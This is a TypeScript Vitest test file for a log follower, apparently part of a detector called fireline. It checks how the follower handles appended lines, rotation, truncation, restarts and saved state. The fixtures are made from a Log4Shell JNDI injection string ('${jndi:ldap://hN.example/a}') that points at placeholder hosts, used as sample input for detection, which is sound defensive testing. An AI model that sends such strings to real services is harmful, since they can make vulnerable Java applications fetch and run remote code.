import {
  appendFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  truncateSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, expect, test } from 'vitest'
import type { Gap } from '../../../core/index.ts'
import { type FollowRequest, follow } from './follow.ts'

const root = mkdtempSync(join(tmpdir(), 'fireline-follow-'))
afterAll(() => rmSync(root, { recursive: true, force: true }))

let folders = 0
function folderOf(): string {
  const folder = join(root, String(folders++))
  mkdirSync(folder)
  return folder
}

const attack = (n: number): string => `x \${jndi:ldap://h${n}.example/a}`

/** A follower under way: what it told, until it is stopped. */
function following(paths: readonly string[], options: Partial<FollowRequest> = {}) {
  const stop = new AbortController()
  const found: string[] = []
  const gaps: Gap[] = []
  const notes: string[] = []
  const run = (async () => {
    const request = { paths, state: null, fromEnd: false, ...options }
    for await (const event of follow(request, { signal: stop.signal })) {
      if (event.is === 'finding')
        found.push(`${event.finding.lookup.host?.replace('.example', '')}:${event.finding.at.line}`)
      else if (event.is === 'gap') gaps.push(event.gap)
      else if (event.is === 'note') notes.push(event.text)
    }
  })()
  return {
    found,
    gaps,
    notes,
    /** Resolves when so many were found; a test that waits too long fails by its own time. */
    async until(count: number): Promise<void> {
      while (found.length < count) await new Promise((resolve) => setTimeout(resolve, 20))
    },
    async stop(): Promise<void> {
      stop.abort()
      await run
    },
  }
}

test('tells what is appended, line by line, and waits for the rest of a line', async () => {
  const path = join(folderOf(), 'a.log')
  writeFileSync(path, `${attack(1)}\n`)
  const run = following([path])
  await run.until(1)
  appendFileSync(path, `nothing\n${attack(2)}\n${attack(3)}`)
  await run.until(2)
  appendFileSync(path, ' and more\n')
  await run.until(3)
  await run.stop()

  expect(run.found).toEqual(['h1:1', 'h2:3', 'h3:4'])
  expect(run.gaps).toEqual([])
})

test('goes on in the new file when a log is renamed and made anew, and reads the old one to its end', async () => {
  const path = join(folderOf(), 'a.log')
  writeFileSync(path, `${attack(1)}\n`)
  const run = following([path])
  await run.until(1)
  renameSync(path, `${path}.1`)
  appendFileSync(`${path}.1`, `${attack(2)}\n`)
  writeFileSync(path, `${attack(3)}\n`)
  await run.until(3)
  // A program that has the old one open still may write to it.
  appendFileSync(`${path}.1`, `${attack(4)}\n`)
  appendFileSync(path, `${attack(5)}\n`)
  await run.until(5)
  await run.stop()

  expect([...run.found].sort()).toEqual(['h1:1', 'h2:2', 'h3:1', 'h4:3', 'h5:2'])
  expect(run.gaps).toEqual([])
})

test('begins anew when a log is cut, and says that something may be missing', async () => {
  const path = join(folderOf(), 'a.log')
  writeFileSync(path, `${attack(1)}\nlonger than what comes\n`)
  const run = following([path])
  await run.until(1)
  truncateSync(path, 0)
  appendFileSync(path, `${attack(2)}\n`)
  await run.until(2)
  await run.stop()

  expect(run.found).toEqual(['h1:1', 'h2:1'])
  expect(run.gaps).toMatchObject([{ at: path, because: 'changed' }])
})

test('notices that a log was written anew, also where it is longer than before', async () => {
  const path = join(folderOf(), 'a.log')
  writeFileSync(path, `${attack(1)}\n`)
  const run = following([path])
  await run.until(1)
  writeFileSync(path, `a first line that is new\n${attack(2)}\nand long enough\n`)
  await run.until(2)
  await run.stop()

  expect(run.found).toEqual(['h1:1', 'h2:2'])
})

test('waits for a file that is not there yet; one that never comes is told at the end', async () => {
  const folder = folderOf()
  const run = following([join(folder, 'a.log'), join(folder, 'never.log')])
  await new Promise((resolve) => setTimeout(resolve, 300))
  writeFileSync(join(folder, 'a.log'), `${attack(1)}\n`)
  await run.until(1)
  await run.stop()

  expect(run.gaps).toMatchObject([{ at: join(folder, 'never.log'), because: 'vanished' }])
})

test('what is packed cannot be followed, and is told once', async () => {
  const path = join(folderOf(), 'a.gz')
  writeFileSync(path, gzipSync('x'))
  const run = following([path])
  await new Promise((resolve) => setTimeout(resolve, 700))
  await run.stop()

  expect(run.gaps).toMatchObject([{ because: 'unsupported' }])
})

test('goes on after a restart where it was, with the numbers of lines, and tells nothing twice', async () => {
  const folder = folderOf()
  const [path, state] = [join(folder, 'a.log'), join(folder, 'state.json')]
  writeFileSync(path, `${attack(1)}\nnothing\n${attack(2)} not complete`)
  const first = following([path], { state })
  await first.until(1)
  await first.stop()
  appendFileSync(path, ` but now\n${attack(3)}\n`)
  const second = following([path], { state })
  await second.until(2)
  await second.stop()

  expect(first.found).toEqual(['h1:1'])
  expect(second.found).toEqual(['h2:3', 'h3:4'])
  expect(second.gaps).toEqual([])
})

test('after a restart it first reads the rest of a log that was rotated meanwhile', async () => {
  const folder = folderOf()
  const [path, state] = [join(folder, 'a.log'), join(folder, 'state.json')]
  writeFileSync(path, `${attack(1)}\n`)
  const first = following([path], { state })
  await first.until(1)
  await first.stop()
  appendFileSync(path, `${attack(2)}\n`)
  renameSync(path, `${path}.2`)
  await new Promise((resolve) => setTimeout(resolve, 20))
  writeFileSync(`${path}.1`, `${attack(9)}\n`)
  writeFileSync(path, `${attack(3)}\n`)
  const second = following([path], { state })
  await second.until(2)
  await second.stop()

  expect([...second.found].sort()).toEqual(['h2:2', 'h3:1'])
  expect(second.gaps).toMatchObject([{ at: `${path}.1`, because: 'not-attempted' }])
})

test('after a restart it says when the log that it followed is gone, or was cut', async () => {
  const folder = folderOf()
  const [gone, cut, state] = [join(folder, 'gone.log'), join(folder, 'cut.log'), join(folder, 'state.json')]
  for (const path of [gone, cut]) writeFileSync(path, `${attack(1)}\nnothing\n`)
  const first = following([gone, cut], { state })
  await first.until(2)
  await first.stop()
  // Another file first, so that the system cannot give its number to the new one.
  writeFileSync(join(folder, 'other'), '')
  rmSync(gone)
  writeFileSync(join(folder, 'another'), '')
  writeFileSync(gone, `${attack(2)}\n`)
  writeFileSync(cut, `${attack(3)}\n`)
  const second = following([gone, cut], { state })
  await second.until(2)
  await second.stop()

  expect([...second.found].sort()).toEqual(['h2:1', 'h3:1'])
  expect(second.gaps.map(({ because }) => because).sort()).toEqual(['changed', 'vanished'])
})

test('begins at the end where that is asked for, with the numbers of lines', async () => {
  const path = join(folderOf(), 'a.log')
  writeFileSync(path, `${attack(1)}\nnothing\n`)
  const run = following([path], { fromEnd: true })
  await new Promise((resolve) => setTimeout(resolve, 400))
  appendFileSync(path, `${attack(2)}\n`)
  await run.until(1)
  await run.stop()

  expect(run.found).toEqual(['h2:3'])
})

test.each([
  ['no JSON', 'hello'],
  ['another JSON', '{"schema":"other"}'],
  ['a damaged position', '{"schema":"fireline.follow/1","files":[{"path":"a","offset":-1}]}'],
])('a state file with %s is a problem', async (_case, text) => {
  const state = join(folderOf(), 'state.json')
  writeFileSync(state, text)

  await expect(following(['a.log'], { state }).stop()).rejects.toMatchObject({ code: 'FOLLOW_STATE_UNUSABLE' })
})

test('a folder cannot be followed', async () => {
  await expect(following([folderOf()]).stop()).rejects.toMatchObject({ code: 'FOLLOW_NEEDS_FILES' })
})

test('positions are saved while it runs, only of what was taken', async () => {
  const folder = folderOf()
  const [path, state] = [join(folder, 'a.log'), join(folder, 'state.json')]
  writeFileSync(path, `${attack(1)}\n${attack(2)}\n`)
  const stop = new AbortController()
  const run = follow({ paths: [path], state, fromEnd: false }, { signal: stop.signal })[Symbol.asyncIterator]()
  await run.next()
  await new Promise((resolve) => setTimeout(resolve, 1_500))
  expect(existsSync(state)).toBe(false)
  await run.next()
  const waiting = run.next()
  while (!existsSync(state)) await new Promise((resolve) => setTimeout(resolve, 50))
  const { files } = JSON.parse(readFileSync(state, 'utf8')) as { files: [{ offset: number; lines: number }] }
  expect(files[0]).toMatchObject({ offset: Buffer.byteLength(`${attack(1)}\n${attack(2)}\n`), lines: 2 })
  stop.abort()
  expect(await waiting).toEqual({ done: true, value: undefined })
})
